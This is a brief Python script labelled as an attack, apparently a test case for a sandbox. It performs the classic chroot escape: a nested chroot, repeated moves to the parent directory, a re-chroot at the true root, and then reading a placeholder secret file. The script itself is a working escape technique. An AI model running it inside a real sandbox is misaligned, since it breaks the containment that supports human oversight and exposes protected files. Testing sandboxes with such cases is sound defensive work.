# attack: the classic way out of a chroot: a second chroot below the working folder, then up
# family: ctypes
import os
os.makedirs("deep", exist_ok=True)
os.chroot("deep")
print("REACHED chroot")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
with open("$SECRET_FILE") as f:
    print(f.read())
